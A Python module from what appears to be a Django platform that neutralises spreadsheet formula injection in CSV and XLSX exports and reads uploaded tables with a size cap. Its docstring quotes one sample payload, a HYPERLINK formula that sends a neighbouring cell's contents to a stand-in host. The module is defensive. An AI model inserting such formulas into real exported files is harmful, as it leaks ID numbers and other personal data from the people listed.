"""Spreadsheet exports that cannot carry a formula (CSV and XLSX).

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, WPS and LibreOffice. A name or a bank name such as ``=HYPERLINK("http://x/?"&A1)``
written into a bank file or a list beside full ID numbers would then run when an officer opens it
and could carry the numbers out. Every CSV and XLSX the platform writes goes through this module:

- CSV: such a text gets a leading apostrophe (``'=HYPERLINK…``), the convention spreadsheet programs
  read as "text";
- XLSX: the cell is typed as a string and marked with Excel's own quote prefix, so the text is shown
  exactly as entered and never evaluated.

Numbers, dates and ``Decimal`` values are written as they are: only text can be a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from django.core.exceptions import ValidationError

from dte.core.bounds import IMPORT_BYTES_MAX, IMPORT_TOO_LARGE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """The value to write into a CSV cell: formula-like text gets a leading apostrophe."""
    if is_formula_like(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, stream, **kwargs) -> None:
        self._w = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeCsvDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose values are neutralised (the header is the platform's own)."""

    def writerow(self, rowdict):  # type: ignore[override]
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts):  # type: ignore[override]
        for r in rowdicts:
            self.writerow(r)


def csv_bytes(header: Sequence[Any], rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
    """A whole CSV file, UTF-8 (with a BOM by default, so that Excel reads the Chinese text)."""
    buf = io.StringIO()
    w = SafeCsvWriter(buf)
    w.writerow(header)
    w.writerows(rows)
    return (("\ufeff" if bom else "") + buf.getvalue()).encode("utf-8")


def xlsx_append(ws, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet; formula-like text is stored as quoted text."""
    values = list(row)
    ws.append(values)
    if not any(is_formula_like(v) for v in values):
        return
    # The row just appended: openpyxl keeps it; ws.max_row scans every cell (quadratic over a file).
    r = getattr(ws, "_current_row", None) or ws.max_row
    for i, v in enumerate(values, start=1):
        if is_formula_like(v):
            xlsx_set(ws.cell(row=r, column=i), v)


def xlsx_set(cell, value: Any) -> None:
    """Set one openpyxl cell; formula-like text is stored as quoted text."""
    cell.value = value
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True


def xlsx_bytes(header: Sequence[Any], rows: Iterable[Iterable[Any]], *, title: str = "Sheet1") -> bytes:
    """A one-sheet XLSX file with the header in the first row."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = title
    xlsx_append(ws, header)
    for row in rows:
        xlsx_append(ws, row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# -- reading an uploaded table --------------------------------------------------------------------


def read_table(content: bytes, filename: str) -> list[list[Any]]:
    """Rows of a CSV (UTF-8 or GB18030) or XLSX file, by content: an XLSX is a ZIP archive. A file
    over ``IMPORT_BYTES_MAX`` is refused unread."""
    if len(content) > IMPORT_BYTES_MAX:
        raise ValidationError({"file": IMPORT_TOO_LARGE})
    if content[:4] == b"PK\x03\x04":
        from openpyxl import load_workbook

        try:
            wb = load_workbook(io.BytesIO(content), read_only=True, data_only=True)
        except Exception as exc:  # openpyxl raises several types for a damaged file
            raise ValidationError({"file": "无法读取 XLSX 文件"}) from exc
        return [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]
    for encoding in ("utf-8-sig", "gb18030"):
        try:
            text = content.decode(encoding)
            break
        except UnicodeDecodeError:
            continue
    else:
        raise ValidationError({"file": "无法识别文件编码,请使用 UTF-8"})
    return [list(r) for r in csv.reader(io.StringIO(text))]
